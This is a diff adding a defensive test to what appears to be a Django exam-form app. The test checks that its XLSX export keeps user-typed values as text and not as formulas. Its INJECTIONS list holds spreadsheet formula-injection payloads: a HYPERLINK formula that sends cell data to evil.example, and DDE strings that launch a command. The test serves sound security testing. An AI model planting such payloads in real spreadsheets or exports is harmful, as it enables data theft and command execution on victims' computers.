@@ -224,6 +224,50 @@ def test_the_registrar_exports_a_faculty_as_xlsx(client, world, submitted):
     assert by_key[("PHY", "IS-2301")][13] == "Not chosen"
 
 
+INJECTIONS = [
+    '=HYPERLINK("https://evil.example/?"&A1, "Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "#REF!",
+]
+
+
+def test_the_export_writes_what_people_typed_as_text_never_as_a_formula(
+    client, world, submitted, programmes
+):
+    """Formula injection: text from teachers, heads and the registry stays text."""
+    comment, file_name, teacher, discipline, period, group, code = INJECTIONS
+    ExamFormChoice.objects.filter(pk=submitted.pk).update(head_comment=comment)
+    programme = programmes["algebra"]
+    type(programme).objects.filter(pk=programme.pk).update(original_name=file_name)
+    world.teacher.full_name = teacher
+    world.teacher.save()
+    world.algebra.name_en = world.algebra.name_kk = discipline
+    world.algebra.save()
+    world.period.title = period
+    world.period.save()
+    world.g2.code = group
+    world.g2.save()
+    world.physics.code = code
+    world.physics.save()
+    client.force_login(world.registrar)
+    response = client.get(reverse("examforms:export"), {"scope": "all"})
+    workbook = load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    # word for word, as typed (XML reads a carriage return back as a line feed)
+    assert {text.replace("\r", "\n") for text in INJECTIONS} <= texts
+    for cell in cells:
+        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert cell.quotePrefix, cell.coordinate
+    plain = next(c for c in cells if c.value == "Sent for review")
+    assert not plain.quotePrefix
+
+
 def test_a_head_exports_only_their_departments(client, world, submitted):
     client.force_login(world.head)
     assert (
